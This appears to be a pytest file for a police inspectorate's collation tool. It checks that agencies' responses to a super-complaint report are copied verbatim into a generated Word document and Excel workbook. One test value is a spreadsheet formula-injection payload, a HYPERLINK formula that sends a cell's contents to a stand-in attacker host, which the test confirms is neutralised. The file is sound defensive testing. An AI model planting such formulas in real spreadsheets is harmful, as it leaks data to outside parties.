"""The collated national return, compiled from the returns the inspectorate's server accepted (a real SMTP server on
127.0.0.1), compared with those returns verbatim: the Word document and the Excel workbook.
"""

import io
from pathlib import Path

from docx import Document
from openpyxl import load_workbook

from models.rules.national import NO_RETURN
from models.store.actions import list_actions, record_response
from models.store.db import session_scope
from models.store.national import accepted_returns
from models.store.reports import list_recommendations
from notifications.documents.collate import collated, render_collated_docx, render_collated_xlsx, responses_in
from tests.national.conftest import DUE, submit

HOSTILE = '=HYPERLINK("http://attacker.test/?"&A1,"Click")'


def answer_avon_and_somerset() -> dict[str, str]:
    """Avon and Somerset answers every recommendation, one of them with text a spreadsheet would run as a formula."""
    answers = {}
    with session_scope() as session:
        for i, row in enumerate(list_actions(session, report_id="safe-to-share", agency_id="avon-and-somerset-police")):
            text = HOSTILE if i == 0 else f"Avon and Somerset: {row.number}.\n\n- a line that starts with a dash"
            answers[row.number] = text
            record_response(
                session,
                report_id="safe-to-share",
                agency_id="avon-and-somerset-police",
                number=row.number,
                text=text,
                by="alex.morgan@avon-somerset-police.example",
            )
    return answers


def test_the_collated_return_holds_every_accepted_response_verbatim(answered, seed_return, smtp, tmp_path: Path):
    avon = answer_avon_and_somerset()
    submit(DUE)
    with session_scope() as session:
        accepted = {r.agency_id: r for r in accepted_returns(session, report_id="safe-to-share")}
        c = collated(session, report_id="safe-to-share", today=DUE)
        recs = {r.number: r for r in list_recommendations(session, report_id="safe-to-share")}
    assert set(accepted) == {"wiltshire-police", "avon-and-somerset-police"}
    # What the documents sent say is what the seed and Avon and Somerset recorded.
    wiltshire, avon_return = accepted["wiltshire-police"], accepted["avon-and-somerset-police"]
    assert wiltshire.document is not None
    assert avon_return.document is not None
    assert wiltshire.submitted_at is not None
    assert dict(responses_in(wiltshire.document)) == seed_return["responses"]
    assert dict(responses_in(avon_return.document)) == avon
    assert c.returns == 2

    by_number = {rec.number: rec for rec in c.recommendations}
    assert list(by_number) == ["1", "4", "5", "8"]
    for number, text in seed_return["responses"].items():
        collated_rows = {row.agency_id: row for row in by_number[number].rows}
        assert collated_rows["wiltshire-police"].response == text
        sent = DUE  # the as-of day of the run that sent it
        assert collated_rows["wiltshire-police"].source == "Return round 1, accepted " + sent.strftime("%-d %B %Y")
        assert collated_rows["avon-and-somerset-police"].response == avon[number]
        assert collated_rows["dorset-police"].response == NO_RETURN  # addressed, no return accepted
    # Every addressed agency has a row: the 43 forces and 4 others on recommendation 1.
    assert len(by_number["1"].rows) == len({a.agency_id for a in _actions_on("1")})

    # The Word document: per recommendation, its text and a table, one row per agency, responses verbatim.
    doc = Document(io.BytesIO(render_collated_docx(c)))
    texts = [p.text for p in doc.paragraphs]
    assert texts[:3] == [
        "17/06/21",
        "NATIONAL RETURN: EVERY AGENCY'S RESPONSE",
        recs["1"].report_id
        and "Safe to share? Report on Liberty and Southall Black Sisters' super-complaint on "
        "policing and immigration status",
    ]
    assert [t for t in texts if t.startswith("Recommendation ")] == [by_number[n].heading for n in by_number]
    assert len(doc.tables) == 4
    for table, number in zip(doc.tables, by_number, strict=True):
        cells = [[cell.text for cell in row.cells] for row in table.rows]
        assert cells[0] == ["Agency", "Response", "Inspectorate"]
        found = {r[0].split("\n", 1)[0]: r[1] for r in cells[1:]}
        assert found["Wiltshire Police"] == seed_return["responses"][number]
        assert found["Avon and Somerset Constabulary"] == avon[number]
        assert len(cells) - 1 == len(by_number[number].rows)

    # The workbook: a sheet per recommendation, a row per agency, every cell that could run neutralised.
    book = load_workbook(io.BytesIO(render_collated_xlsx(c)))
    assert book.sheetnames == ["Rec 1", "Rec 4", "Rec 5", "Rec 8"]
    for number, rec in by_number.items():
        sheet = book[f"Rec {number}"]
        assert sheet["A1"].value == "OFFICIAL"  # the marking heads the sheet
        assert sheet["A2"].value == rec.heading
        assert sheet["A3"].value == recs[number].text
        assert [c.value for c in sheet[5]] == ["Agency", "Agency id", "Response", "Source", "Inspectorate"]
        values = {r[1]: r for r in sheet.iter_rows(min_row=6, values_only=True)}
        assert values["wiltshire-police"][2] == seed_return["responses"][number]
        expected = avon[number]
        assert values["avon-and-somerset-police"][2] == ("'" + expected if expected.startswith("=") else expected)
        assert len(values) == len(rec.rows)
    formulas = [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))
    ]
    assert formulas == []


def _actions_on(number: str):
    with session_scope() as session:
        return [r.action for r in list_actions(session, report_id="safe-to-share") if r.number == number]


def test_collate_writes_the_word_document_and_the_workbook(answered, smtp, cli_in_process, tmp_path: Path):
    submit(DUE)
    out = tmp_path / "national"
    result = cli_in_process("returns", "collate", "safe-to-share", "--out", str(out), "--today", DUE.isoformat())
    assert result.code == 0, result.stderr
    assert sorted(p.name for p in out.iterdir()) == ["safe-to-share-national.docx", "safe-to-share-national.xlsx"]
    assert "1 returns accepted" in result.stdout
    doc = Document(str(out / "safe-to-share-national.docx"))
    assert "Wiltshire Police" in [row.cells[0].text.split("\n")[0] for row in doc.tables[0].rows]


def test_collate_refuses_an_unknown_report_and_a_file_for_a_folder(db, cli_in_process, tmp_path: Path):
    result = cli_in_process("returns", "collate", "no-such-report")
    assert result.code == 1
    assert result.stderr.count("\n") == 1
    assert "no-such-report" in result.stderr
    afile = tmp_path / "a-file"
    afile.write_text("x")
    result = cli_in_process("returns", "collate", "safe-to-share", "--out", str(afile))
    assert result.code == 1
    assert "is a file, not a folder" in result.stderr
